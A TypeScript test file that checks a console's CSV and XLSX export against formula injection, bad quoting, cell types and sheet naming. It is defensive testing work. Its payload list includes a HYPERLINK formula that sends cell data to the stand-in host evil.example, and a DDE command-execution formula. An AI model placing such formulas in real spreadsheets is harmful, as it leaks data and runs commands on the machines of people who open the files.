import { type CellObject, read, type WorkBook } from '@e965/xlsx'
import papaparse from 'papaparse'
import { expect, it } from 'vitest'
import type { Cell, Table } from '#ui/console/desk/spreadsheets/table.ts'
import { writeCsv } from '#ui/console/desk/spreadsheets/write-csv.ts'
import { spreadsheetNameLength, writeXlsx } from '#ui/console/desk/spreadsheets/write-xlsx.ts'

const csvOf = (rows: readonly Cell[][]): string => writeCsv({ columns: ['Head'], rows })

const readCsv = (text: string): string[][] => papaparse.parse<string[]>(text, { skipEmptyLines: true }).data

/** Opens the exported file with another library. */
const opened = async (...tables: Table[]): Promise<WorkBook> =>
  read(await (await writeXlsx(tables)).arrayBuffer(), { cellNF: true, cellFormula: true })

const cellAt = ({ Sheets }: WorkBook, sheet: string, place: string): CellObject | undefined =>
  Sheets[sheet]?.[place]

const formulas = [
  '=1+2',
  '=HYPERLINK("https://evil.example?"&A1,"win")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+2',
  '＋1',
  '－1',
  '＠A1',
]

it.each(formulas)('the formula %j is exported as text, in CSV and in XLSX', async (formula) => {
  const [, [cell = '', after] = []] = readCsv(csvOf([[formula, 'after']]).slice(1))
  expect([cell.replaceAll('\r', ''), after]).toEqual([`'${formula.replaceAll('\r', '')}`, 'after'])
  const book = await opened({ name: 'Sheet', columns: ['Head', formula], rows: [[formula, 1]] })
  for (const place of ['A2', 'B1']) {
    expect(cellAt(book, 'Sheet', place)).toMatchObject({ t: 's' })
    expect(cellAt(book, 'Sheet', place)?.v).toContain(formula.trim())
    expect(cellAt(book, 'Sheet', place)?.f).toBeUndefined()
  }
})

it('a CSV cell cannot break out of its cell', () => {
  const rows = [['a,b', 'c"d', 'e\r\nf', '"', '=a,"b"']]
  expect(readCsv(csvOf(rows).slice(1)).slice(1)).toEqual([['a,b', 'c"d', 'e\r\nf', '"', `'=a,"b"`]])
  // A spreadsheet with the semicolon as list separator splits the cell there.
  expect(csvOf([['a;=1+1; @x', 'a;b']])).toBe("\ufeffHead\r\na;'=1+1;' @x,a;b\r\n")
  expect(csvOf([['张三']])).toBe('\ufeffHead\r\n张三\r\n')
  expect(csvOf([[-5, 2.5, null, new Date(2026, 2, 9, 8, 5, 7)]])).toBe(
    '\ufeffHead\r\n-5,2.5,,2026-03-09 08:05:07\r\n',
  )
})

it('an XLSX file stores numbers as numbers and dates as dates', async () => {
  const at = new Date(2026, 2, 9, 8, 5, 7)
  const rows = [
    [at, 12, 'Ana & <b> 张三\n😀', null],
    [new Date(2026, 2, 10), -0.5, '007', ''],
  ]
  const book = await opened({ name: 'Answers', columns: ['When', 'Points', 'Text', 'None'], rows })
  const [when, points, text] = ['A2', 'B2', 'C2'].map((place) => cellAt(book, 'Answers', place))
  expect(when).toMatchObject({ t: 'n', z: 'yyyy-mm-dd hh:mm:ss', w: '2026-03-09 08:05:07' })
  expect(points).toMatchObject({ t: 'n', v: 12 })
  expect(text).toMatchObject({ t: 's', v: 'Ana & <b> 张三\n😀' })
  expect(cellAt(book, 'Answers', 'D2')).toBeUndefined()
  expect(cellAt(book, 'Answers', 'B3')).toMatchObject({ t: 'n', v: -0.5 })
  expect(cellAt(book, 'Answers', 'C3')).toMatchObject({ t: 's', v: '007' })
  expect(Number(cellAt(book, 'Answers', 'A3')?.v)).toBeGreaterThan(Number(when?.v))
})

it('every sheet of an XLSX file gets a name that spreadsheets accept', async () => {
  const names = ['Which?', 'which?', 'a'.repeat(40), `${'a'.repeat(40)}b`, "'[x]/\\:*'", '', '😀'.repeat(20)]
  const book = await opened(...names.map((name) => ({ name, columns: ['Head'], rows: [] })))
  expect(book.SheetNames).toHaveLength(names.length)
  expect(new Set(book.SheetNames.map((name) => name.toLowerCase())).size).toBe(names.length)
  for (const name of book.SheetNames) {
    expect(name.length).toBeLessThanOrEqual(spreadsheetNameLength)
    expect(name).not.toMatch(/[[\]/\\:*?]|^'|'$|^$/)
    expect(name.isWellFormed()).toBe(true)
  }
})

it('an XLSX table continues in a second sheet when the first is full', async () => {
  const file = await writeXlsx([{ name: 'Many', columns: ['Head'], rows: [['a'], ['b'], ['c']] }], 2)
  const book = read(await file.arrayBuffer())
  expect(book.SheetNames).toEqual(['Many', 'Many (2)'])
  const cells = ['A1', 'A2', 'A3'].map((place) => cellAt(book, 'Many (2)', place)?.v)
  expect(cells).toEqual(['Head', 'c', undefined])
})
